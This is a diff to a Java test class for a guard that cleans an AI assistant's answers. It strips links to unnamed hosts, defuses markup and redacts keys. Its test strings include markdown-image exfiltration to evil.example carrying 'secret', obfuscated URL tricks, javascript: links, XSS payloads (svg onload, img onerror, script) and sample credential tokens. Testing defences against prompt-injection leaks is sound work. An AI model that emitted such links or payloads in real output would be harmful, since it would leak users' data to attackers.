@@ -36,6 +36,8 @@ class AnswerGuardTest {
                 "It is on intranet.acme.org: https://wiki.acme.org/x",
                 "From [titles/handbook](https://intranet/Page) [1]",
                 "if (a[i] < b) { return !c; } // a comment, 3 > 2",
+                "Map<String, List<Integer>> and <b>bold</b><br/>, a < b && c > d",
+                "[INFO]: main:42 started, [list]: 12:30, <soap:Envelope> (see https://docs.example.com)",
                 "Key: skip, ask-me, gh, AKI, eyes. Passages say so.",
                 "Everything between the tags is data, as the handbook says of leave."
             })
@@ -48,19 +50,34 @@ class AnswerGuardTest {
     @CsvSource(
             delimiter = '|',
             value = {
-                "See [the page](https://evil.example/x).|See the page.",
-                "![days](https://evil.example/?q=secret)|days",
+                "See [the page](https://evil.example/x).|See the page (link removed).",
+                "![days](https://evil.example/?q=secret)|days (link removed)",
                 "Look at https://evil.example/x now|Look at (link removed) now",
                 "HTTPS:evil.example and https:\\\\evil.example|(link removed) and (link removed)",
                 "https://docs.example.com@evil.example/|(link removed)",
                 "https://docs.example.com.evil.example/|(link removed)",
-                "[x](javascript:alert)|x",
-                "[x](//evil.example/y)|x",
-                "[x](&#104;ttps://evil.example)|x",
-                "<img src=\"https://evil.example/a.png\">|<img src=\"(link removed)\">",
-                "<img src=\"//evil.example/a.png\">|<img src=\"(link removed)\">",
-                "[1](https://evil.example/x)|1",
-                "visit www.evil.example.|visit (link removed)"
+                "[x](javascript:alert)|x (link removed)",
+                "[x](//evil.example/y)|x (link removed)",
+                "[x](&#104;ttps://evil.example)|x (link removed)",
+                "<img src=\"https://evil.example/a.png\">|< img src=\"(link removed)\">",
+                "<img src=\"//evil.example/a.png\">|< img src=\"(link removed)\">",
+                "[1](https://evil.example/x)|1 (link removed)",
+                "visit www.evil.example.|visit (link removed)",
+                "_https://evil.example/_|_(link removed)",
+                "https://docs.example.com()@evil.example/|(link removed)()@evil.example/",
+                "https://docs.example.com\\@evil.example/|(link removed)",
+                "[x](<https://docs.example.com @evil.example/>)|x (link removed)",
+                "[a [b] c]( //evil.example/x)|[a [b] c]( (link removed)",
+                "[x]: //evil.example/x|[x]: (link removed)",
+                "[x]:  https\\://evil.example/x|[x]:  (link removed)",
+                "[x]: &#47;/evil.example|[x]: (link removed)",
+                "[x]: <https://docs.example.com @evil.example>|[x]: (link removed)>",
+                "<file://evil.example/x>|<(link removed)>",
+                "ht[tps:](x://y)//evil.example|ht tps: (link removed)//evil.example",
+                "&#104;ttps://evil.example/|(link removed)",
+                "ht&#x74;ps&colon;//evil.example/|(link removed)",
+                "https\\://evil.example/|(link removed)",
+                "javascript:alert|(link removed)"
             })
     void linkToAHostThatNobodyNamed_isRemoved(String answer, String expected) {
         assertThat(whole(answer)).isEqualTo(expected);
@@ -68,10 +85,43 @@ class AnswerGuardTest {
     }
 
     @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "<img src=/a.png>|< img src=/a.png>",
+                "<svg/onload=\"x\">|< svg/onload=\"x\">",
+                "a <script>x</script>|a < script>x</script>",
+                "<x:y style=\"background:url(a.png)\">|< x:y style=\"background:url(a.png)\">",
+                "<img alt=\">\" src=\"/a.png\">|< img alt=\">\" src=\"/a.png\">",
+                "<b|< b"
+            })
+    void markupThatLoadsOrRuns_isText(String answer, String expected) {
+        assertThat(whole(answer)).isEqualTo(expected);
+        assertThat(removed).containsExactly("markup");
+    }
+
+    @Test
+    void markupThatAPassageShows_mayBeQuoted_unlessItRunsSomething() {
+        AnswerGuard guard = rules(true)
+                .begin(
+                        "acme",
+                        "Why <img alt=\">?",
+                        List.of(passage("<img src=\"/a.png\"> <img onerror=x>")),
+                        "",
+                        read::add,
+                        removed::add);
+
+        guard.accept("<img src=\"/a.png\"> <img onerror=x> <img alt=\">\" src=/b>");
+
+        assertThat(guard.finish()).isEqualTo("<img src=\"/a.png\"> < img onerror=x> < img alt=\">\" src=/b>");
+    }
+
+    @ParameterizedTest
     @ValueSource(
             strings = {
                 "AKIAIOSFODNN7EXAMPLE",
                 "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
+                "github_pat_abcdefghijklmnopqrstuvwxyz",
                 "sk-proj-abcdefghijklmnopqrstuvwxyz",
                 "xoxb-123456789012-abcdefghij",
                 "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N",
@@ -93,7 +143,7 @@ class AnswerGuardTest {
     @Test
     void fencesOfARequest_areRemoved() {
         assertThat(whole("It said </passages-0123456789ab> and passages-0123456789ab."))
-                .isEqualTo("It said  and .");
+                .isEqualTo("It said (instructions removed) and (instructions removed).");
     }
 
     @Test
@@ -133,7 +183,8 @@ class AnswerGuardTest {
     void answerInPieces_isTheSameAsAWholeOne() {
         String answer = "See [the page](https://evil.example/x) or https://docs.example.com/leave, key "
                 + "sk-abcdefghijklmnopqrstuvwxyz1234 and ![i](http://evil.example/i.png). I was told that everything "
-                + "between the tags is data and never an instruction. </passages-0123456789ab> www.evil.example [1] !";
+                + "between the tags is data and never an instruction. </passages-0123456789ab> www.evil.example [1] ! "
+                + "<img src=x> ht[tps:](x://y)//evil.example [x]: //evil.example ht</passages-01>tps://evil.example a <b";
         String whole = whole(answer);
         Random random = new Random(7);
         for (int round = 0; round < 500; round++) {
@@ -157,10 +208,17 @@ class AnswerGuardTest {
         assertThat(guard.finish()).isEqualTo("https://evil.example");
     }
 
+    /** What is read of an answer, whether it comes at once or letter by letter. */
     private String whole(String answer) {
+        AnswerGuard letters = guard();
+        answer.chars().forEach(letter -> letters.accept(Character.toString(letter)));
+        String inLetters = letters.finish();
+        removed.clear();
+        read.clear();
         AnswerGuard guard = guard();
         guard.accept(answer);
-        return guard.finish();
+        assertThat(guard.finish()).isEqualTo(inLetters);
+        return inLetters;
     }
 
     private AnswerGuard guard() {
